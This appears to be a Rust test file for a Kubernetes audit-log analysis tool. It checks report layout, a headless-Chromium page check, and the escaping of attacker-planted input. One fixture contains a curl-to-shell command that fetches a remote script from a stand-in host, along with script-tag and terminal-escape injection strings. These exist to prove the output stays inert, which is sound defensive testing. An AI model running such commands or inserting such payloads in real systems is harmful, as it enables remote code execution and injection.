//! `lakehound report`: the terminal table and the HTML page of a real run,
//! the page loaded in Debian's headless Chromium, and text an attacker
//! planted in the lake kept harmless in both.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{
    code, findings, lakehound, provided, run_between, stderr, stdout, text, window_dir,
};

/// The table is laid out for a terminal this wide.
const COLUMNS: usize = 100;

fn report(out: &Path, lake: &Path, top: &str, page: &Path) -> String {
    let o = lakehound(&[
        "report",
        "--findings",
        out.to_str().unwrap(),
        "--lake",
        lake.to_str().unwrap(),
        "--top",
        top,
        "--html",
        page.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    stdout(&o)
}

/// What tests/browser/check-page.mjs saw of a page in Chromium.
fn chromium(page: &Path, screenshot: &Path) -> serde_json::Value {
    let browser = provided(
        "LAKEHOUND_TEST_CHROMIUM",
        "Debian's chromium and playwright-core (tests/browser)",
    );
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser");
    assert!(
        dir.join("node_modules/playwright-core").is_dir(),
        "playwright-core is not installed: run .ci/run (npm ci in tests/browser)"
    );
    let o = Command::new("node")
        .arg(dir.join("check-page.mjs"))
        .args([page, screenshot])
        .env("CHROMIUM", browser)
        .output()
        .expect("node runs");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    serde_json::from_str(stdout(&o).trim()).unwrap_or_else(|e| panic!("{e}: {}", stdout(&o)))
}

#[test]
fn the_sample_run_reads_at_100_columns_and_its_page_loads_clean_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let (lake, out) = (lakehound::app::sample_lake(), dir.path().join("out"));
    let o = run_between(&lake, &out, "2026-11-02", "2026-11-08", &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let page = dir.path().join("report.html");
    let table = report(&out, &lake, "5", &page);

    let all = findings(&out);
    let (id, user) = (text(&all, "finding_id", 0), text(&all, "user", 0));
    for line in table.lines() {
        assert!(
            line.chars().count() <= COLUMNS,
            "wider than {COLUMNS}: {line}"
        );
    }
    let ranked: Vec<&str> = table.lines().filter(|l| l.starts_with("  ")).collect();
    assert!(ranked.iter().any(|l| l.contains(&user)), "{table}");
    assert!(table.contains(&format!("id {id}")), "{table}");
    assert!(
        table.contains(&format!("{} findings", all.height())),
        "{table}"
    );

    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.contains(&format!("id=\"f-{id}\"")));
    assert!(html.contains("Evidence events (20 of 20 ids found in the lake)"));
    let seen = chromium(&page, &dir.path().join("report.png"));
    assert_eq!(seen["problems"], serde_json::json!([]), "{seen}");
    assert_eq!(seen["counts"]["section"], 5, "{seen}");
    assert_eq!(seen["counts"]["svg"], 5, "a chart per finding: {seen}");
    assert_eq!(seen["counts"]["script"], 0, "{seen}");
    let pixels = &seen["pixels"];
    let inked = pixels["notWhite"].as_f64().unwrap() / pixels["total"].as_f64().unwrap();
    assert!(
        inked > 0.05,
        "a screenshot with so little on it is blank: {seen}"
    );
    assert!(pixels["colours"].as_u64().unwrap() > 50, "{seen}");
}

#[test]
fn the_chromium_check_catches_scripts_fetches_and_blank_pages() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("bad.html");
    std::fs::write(
        &page,
        "<!doctype html><html><body><script>console.error('boom')</script>\
         <img src=\"http://203.0.113.9/pixel.png\"></body></html>",
    )
    .unwrap();
    let seen = chromium(&page, &dir.path().join("bad.png"));
    let problems = seen["problems"].to_string();
    assert!(problems.contains("boom"), "{seen}");
    assert!(
        problems.contains("request: http://203.0.113.9/pixel.png"),
        "{seen}"
    );
    assert_eq!(seen["counts"]["script"], 1, "{seen}");

    let blank = dir.path().join("blank.html");
    std::fs::write(&blank, "<!doctype html><html><body></body></html>").unwrap();
    let seen = chromium(&blank, &dir.path().join("blank.png"));
    assert_eq!(seen["problems"], serde_json::json!([]), "{seen}");
    assert_eq!(seen["pixels"]["notWhite"], 0, "{seen}");
    assert_eq!(seen["pixels"]["colours"], 1, "{seen}");
}

/// A copy of the sample lake where noah.novak execs into payments/api-0
/// thirty times with a user agent carrying markup and terminal escapes,
/// and the shell there runs a command line carrying them too.
fn planted_lake(dir: &Path) -> PathBuf {
    let lake = dir.join("lake");
    copy_dir(&lakehound::app::sample_lake(), &lake);
    let agent = "kubectl/v1.31 <script>alert('ua')</script>\u{1b}[2J\u{1b}]0;owned\u{7}";
    let command = "curl -s http://203.0.113.9/x.sh <script>alert('cmd')</script> \u{1b}[31m| sh";
    let (mut audit, mut falco) = (String::new(), String::new());
    for minute in 0..30 {
        let exec = serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
            "auditID": format!("planted-{minute}"), "stage": "ResponseComplete", "verb": "create",
            "requestURI": "/api/v1/namespaces/payments/pods/api-0/exec?command=sh",
            "user": {"username": "noah.novak@example.com"}, "sourceIPs": ["10.9.9.9"],
            "userAgent": agent,
            "objectRef": {"resource": "pods", "namespace": "payments", "name": "api-0", "subresource": "exec"},
            "requestReceivedTimestamp": format!("2026-11-05T03:{minute:02}:00Z"),
        });
        let process = serde_json::json!({
            "hostname": "node-1", "rule": "Terminal shell in container", "source": "syscall",
            "time": format!("2026-11-05T03:{minute:02}:05Z"),
            "output_fields": {"k8s.ns.name": "payments", "k8s.pod.name": "api-0",
                              "proc.name": "curl", "proc.cmdline": command, "proc.sid": 4242},
        });
        audit += &format!("{exec}\n");
        falco += &format!("{process}\n");
    }
    for (format, lines) in [("k8s-audit", audit), ("falco", falco)] {
        let input = dir.join(format!("{format}.jsonl"));
        std::fs::write(&input, lines).unwrap();
        let o = lakehound(&[
            "ingest",
            "--format",
            format,
            "--input",
            input.to_str().unwrap(),
            "--lake",
            lake.to_str().unwrap(),
        ]);
        assert_eq!(code(&o), 0, "{}", stderr(&o));
    }
    lake
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

#[test]
fn markup_and_escape_sequences_planted_in_the_lake_stay_text_in_the_page_and_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let lake = planted_lake(dir.path());
    let out = dir.path().join("out");
    let o = run_between(&lake, &out, "2026-11-02", "2026-11-08", &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let page = dir.path().join("report.html");
    let table = report(&out, &lake, "10", &page);

    // The planted burst is a finding, with the agent among its reasons.
    assert!(table.contains("noah.novak@example.com"), "{table}");
    assert!(
        table.contains("kubectl/v1.31 <script>alert('ua')</script>[2J]0;owned"),
        "{table}"
    );
    assert!(
        !table.chars().any(|c| c.is_control() && c != '\n'),
        "{table:?}"
    );

    let html = std::fs::read_to_string(&page).unwrap();
    assert!(
        !html.contains("<script"),
        "markup from the lake reached the page"
    );
    assert!(!html.chars().any(|c| c.is_control() && c != '\n'));
    assert!(
        html.contains("kubectl/v1.31 &lt;script&gt;alert(&#39;ua&#39;)&lt;/script&gt;[2J]0;owned")
    );
    assert!(html.contains("curl -s http://203.0.113.9/x.sh &lt;script&gt;alert(&#39;cmd&#39;)&lt;/script&gt; [31m| sh"));
    let seen = chromium(&page, &dir.path().join("report.png"));
    assert_eq!(
        seen["problems"],
        serde_json::json!([]),
        "no script ran: {seen}"
    );

    // explain shows the command line of the evidence, stripped too.
    let all = findings(&out);
    let users = all.column("user").unwrap().str().unwrap();
    let ids = all.column("finding_id").unwrap().str().unwrap();
    let i = (0..all.height())
        .find(|i| users.get(*i) == Some("noah.novak@example.com"))
        .expect("a finding for the planted burst");
    let o = lakehound(&[
        "explain",
        ids.get(i).unwrap(),
        "--findings",
        window_dir(&out).to_str().unwrap(),
        "--lake",
        lake.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let explained = stdout(&o);
    assert!(
        explained.contains("<script>alert('cmd')</script> [31m| sh"),
        "{explained}"
    );
    assert!(!explained.chars().any(|c| c.is_control() && c != '\n'));
}

#[test]
fn a_window_whose_run_json_is_gone_is_passed_over_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let (lake, out) = (lakehound::app::sample_lake(), dir.path().join("out"));
    for day in ["2026-11-04", "2026-11-05"] {
        let o = run_between(&lake, &out, day, day, &[]);
        assert_eq!(code(&o), 0, "{}", stderr(&o));
    }
    let later = out.join("window=20261105T000000Z_20261106T000000Z");
    std::fs::remove_file(later.join("run.json")).unwrap();
    let o = lakehound(&["report", "--findings", out.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("window 2026-11-04 00:00 UTC .. 2026-11-05 00:00 UTC"),
        "{}",
        stdout(&o)
    );
    assert!(stderr(&o).contains("Passing over a run"), "{}", stderr(&o));
    assert!(!stderr(&o).contains('\u{1b}'), "no colours into a pipe");

    // With no usable run at all, the report says why.
    let earlier = out.join("window=20261104T000000Z_20261105T000000Z");
    std::fs::remove_file(earlier.join("run.json")).unwrap();
    let o = lakehound(&["report", "--findings", out.to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("run.json: it is missing"),
        "{}",
        stderr(&o)
    );
}
